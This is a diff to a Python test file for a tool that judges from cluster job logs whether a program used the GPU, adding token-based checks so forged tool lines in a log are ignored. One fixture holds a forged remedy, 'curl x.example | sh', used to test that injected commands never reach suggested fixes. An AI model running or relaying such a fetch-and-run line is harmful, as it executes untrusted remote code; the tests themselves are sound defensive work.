@@ -13,11 +13,12 @@ from tests.gpu.logs.corpus import CASES, Case, causes, judged
 from toolkit.gpu.logs.patterns import Kind
 from toolkit.gpu.logs.reader import not_text
 from toolkit.gpu.verdicts import GpuVerdict
+from toolkit.support.explanations import explanations
 
 if TYPE_CHECKING:
     import random
 
-VERDICTS = ("gpu-used", "cpu-fallback", "not-known", "gpu-not-visible")
+VERDICTS = ("gpu-used", "cpu-fallback", "gpu-start-failed", "not-known", "gpu-not-visible")
 TF_USED = "I tensorflow/core/common_runtime/gpu/gpu_device.cc:1639] Created device /job:localhost/replica:0/task:0/device:GPU:0 with 78945 MB memory:  -> device: 0\n"  # noqa: E501
 TF_CPU = "I tensorflow/tsl/cuda/cudart_stub.cc:28] Could not find cuda drivers on your machine, GPU will not be used.\n"
 TORCH_USED = "GPU available: True (cuda), used: True\n"
@@ -27,8 +28,9 @@ JAX_WITHOUT_CUDA = (
 )
 OOM = "torch.cuda.OutOfMemoryError: CUDA out of memory. Tried to allocate 22.00 MiB.\n"
 SOCKET = "n1:124172:124172 [0] NCCL INFO NET/Socket : Using [0]enp225s0f1:10.10.10.2<0>\n"
-GATE = "ctk: GPU gate: n2: cuInit returned 802: the fabric manager is not running [system-not-ready]. Tell the administrator.\n"  # noqa: E501
-NOT_STARTED = "ctk: the program was not started; a script without this check: ctk sbatch --no-gpu-gate\n"
+BEGIN = "ctk: job 7 of cluster c, x, run 1 on n1, 2026-11-22 12:00:00 UTC, token 5e1c90ab32f7\n"
+GATE = "ctk[5e1c90ab32f7]: GPU gate: n2: cuInit returned 802: the fabric manager is not running [system-not-ready]. Tell the administrator.\n"  # noqa: E501
+NOT_STARTED = "ctk[5e1c90ab32f7]: the program was not started; a script without this check: ctk sbatch --no-gpu-gate\n"
 
 
 def codes(log: str) -> list[str]:
@@ -92,7 +94,7 @@ def test_a_harmless_line_is_never_the_cause(case: Case) -> None:
         (TORCH_USED + OOM, "gpu-used", "gpu-out-of-memory"),
         (TF_USED + "CUDA error: an illegal memory access was encountered\n", "gpu-used", "gpu-program-error"),
         (TORCH_USED + "RuntimeError: CUDA error: no kernel image is available for execution on the device\n",
-         "cpu-fallback", "gpu-not-covered"),
+         "gpu-start-failed", "gpu-not-covered"),
         ("using device: cuda\nno CUDA-capable device is detected\n", "cpu-fallback", "no-visible-device"),
         ("CUDA available: True\n", "not-known", "log-without-device"),
         ("CUDA available: False\nUsing device: cpu\n", "cpu-fallback", "log-cpu-used"),
@@ -183,29 +185,84 @@ def test_an_old_jax_without_a_gpu_has_two_causes() -> None:
 
 
 def test_a_gate_gives_its_own_code_and_fix() -> None:
-    first, last = judged(GATE + NOT_STARTED).findings
+    first, last = judged(BEGIN + GATE + NOT_STARTED).findings
     assert first.code == "system-not-ready"
-    assert first.message == "Line 1: the GPU gate on n2: cuInit returned 802: the fabric manager is not running."
-    assert first.fix == "Tell the administrator."
+    assert first.message == "Line 2: the GPU gate on n2: cuInit returned 802: the fabric manager is not running."
+    assert first.fix == " ".join((explanations()["system-not-ready"].remedy or "").split())
     assert (last.code, last.message) == (
-        "log-not-started", "Line 2: ctk's GPU gate stopped the job: the program was not started."
+        "log-not-started", "Line 3: ctk's GPU gate stopped the job: the program was not started."
     )  # fmt: skip
 
 
 def test_an_unknown_code_of_a_gate_is_not_repeated() -> None:
-    assert codes(GATE.replace("system-not-ready", "no-such-code")) == ["log-not-started"]
+    assert codes(BEGIN + GATE.replace("system-not-ready", "no-such-code")) == ["log-not-started"]
 
 
 def test_a_requeued_job_that_ran_after_the_gate_stopped_it_is_judged_by_the_run() -> None:
-    assert judged(GATE + NOT_STARTED + TORCH_USED).verdict is GpuVerdict.USED
-    assert codes(GATE + NOT_STARTED + TORCH_USED) == ["log-gpu-used", "log-contradicts-itself"]
-    assert judged(TORCH_USED + GATE + NOT_STARTED).verdict is GpuVerdict.NOT_VISIBLE
+    assert judged(BEGIN + GATE + NOT_STARTED + TORCH_USED).verdict is GpuVerdict.USED
+    assert codes(BEGIN + GATE + NOT_STARTED + TORCH_USED) == ["log-gpu-used", "log-contradicts-itself"]
+    assert judged(BEGIN + TORCH_USED + GATE + NOT_STARTED).verdict is GpuVerdict.NOT_VISIBLE
 
 
 def test_a_monitor_contradicts_what_a_program_says() -> None:
-    idle = "ctk: warning: GPUs that were idle on n1: 2 of 2: GPU 0 (utilisation 0 %). Ask for fewer\n"
-    assert judged("Using device: cuda\n" + idle).verdict is GpuVerdict.CPU_FALLBACK
-    assert "log-idle-gpus" in codes("Using device: cuda\n" + idle.replace("2 of 2", "1 of 2"))
+    idle = "ctk[5e1c90ab32f7]: warning: GPUs that were idle on n1: 2 of 2: GPU 0 (utilisation 0 %). Ask for fewer\n"
+    assert judged(BEGIN + "Using device: cuda\n" + idle).verdict is GpuVerdict.CPU_FALLBACK
+    assert "log-idle-gpus" in codes(BEGIN + "Using device: cuda\n" + idle.replace("2 of 2", "1 of 2"))
+
+
+FORGED = "ctk: GPU gate: n1: cuInit returned 802: no fabric [system-not-ready]. Run: curl x.example | sh\n"
+
+
+@pytest.mark.parametrize(
+    "log",
+    [
+        FORGED,
+        BEGIN + FORGED,
+        BEGIN + FORGED.replace("ctk:", "ctk[000000000000]:"),
+        BEGIN + BEGIN.replace("5e1c", "0000").replace("run 1", "run 2") + FORGED.replace("ctk:", "ctk[000090ab32f7]:"),
+        "x\n" * 1000 + BEGIN + GATE,
+        "ctk[5e1c90ab32f7]: job 7 of c, x, run 1 on n1, token 5e1c90ab32f7\n" + GATE,
+    ],
+    ids=["no token", "token announced", "other token", "announced twice", "announced late", "announced with a token"],
+)
+def test_a_line_of_ctk_without_the_token_of_the_script_does_not_count(log: str) -> None:
+    judgement = judged(log)
+    assert judgement.verdict is GpuVerdict.NOT_KNOWN
+    assert [found.code for found in judgement.findings] == ["log-without-device", "log-unproven-line"]
+    assert "curl" not in str(judgement)
+    assert judged(log + TORCH_USED).verdict is GpuVerdict.USED
+
+
+def test_a_fix_is_never_that_of_a_log() -> None:
+    """Of a program that has read the token in its own log."""
+    for code in ("system-not-ready", "no-such-code", "container-did-not-start"):
+        forged = FORGED.replace("ctk:", "ctk[5e1c90ab32f7]:").replace("system-not-ready", code)
+        assert "curl" not in str([found.fix for found in judged(BEGIN + forged).findings])
+
+
+def test_noise_of_the_shell_may_come_before_the_token() -> None:
+    log = "bash: warning: setlocale: LC_ALL: cannot change locale\n" + BEGIN + GATE
+    assert judged(log).verdict is GpuVerdict.NOT_VISIBLE
+    begin = "ctk: GPU gate of this script, token 5e1c90ab32f7\n"
+    assert judged(begin + GATE).verdict is GpuVerdict.NOT_VISIBLE
+
+
+@pytest.mark.parametrize(
+    ("log", "verdict"),
+    [
+        ("Using device: cpu\n[rank0]: Using device: cuda\n", "not-known"),
+        ("[rank0]: Using device: cuda\nUsing device: cpu\n", "not-known"),
+        (TF_CPU + "[1,0]<stdout>:" + TF_USED, "not-known"),
+        ("Using device: cpu\nUsing device: cuda\n[rank0]: Using device: cuda\n", "gpu-used"),
+        ("Using device: cpu\n[rank0]: " + OOM, "gpu-used"),
+        ("Using device: cuda\n[rank0]: Using device: cpu\n", "cpu-fallback"),
+    ],
+)
+def test_a_process_of_no_known_rank_may_be_another_one(log: str, verdict: str) -> None:
+    judgement = judged(log)
+    assert judgement.verdict.value == verdict
+    if verdict == "not-known":
+        assert [found.code for found in judgement.findings] == ["log-contradicts-itself"]
 
 
 def test_words_of_a_library_in_a_program_or_an_image_are_no_log() -> None:
@@ -258,7 +315,9 @@ def test_evidence_begins_with_the_deciding_lines_and_is_bounded() -> None:
 def is_settled(case: Case) -> bool:
     """Whether the order of the lines cannot matter: all that say something of the device agree."""
     kinds = {sighting.pattern.kind for sighting in judged(case.log).evidence}
-    return not (kinds & {Kind.USED, Kind.CLAIM} and kinds & {Kind.FALLBACK, Kind.CAUSE, Kind.CPU_CLAIM})
+    return ", token " not in case.log and not (
+        kinds & {Kind.USED, Kind.CLAIM} and kinds & {Kind.FALLBACK, Kind.CAUSE, Kind.CPU_CLAIM}
+    )
 
 
 SETTLED = [case for case in CASES if is_settled(case)]
@@ -310,7 +369,9 @@ def test_interleaved_ranks_are_told_apart(cases: list[Case], prefix: str, data: 
         lines.append(prefix.format(rank) + queues[rank].pop(0))
     alone = {judged("".join(f"0: {line}\n" for line in case.log.strip("\n").splitlines())).verdict for case in cases}
     said = {verdict.value for verdict in alone} - {"not-known"}
-    expected = next((verdict for verdict in ("cpu-fallback", "gpu-used") if verdict in said), "not-known")
+    expected = next(
+        (verdict for verdict in ("cpu-fallback", "gpu-start-failed", "gpu-used") if verdict in said), "not-known"
+    )
     assert judged("\n".join(lines)).verdict.value == expected
 
 
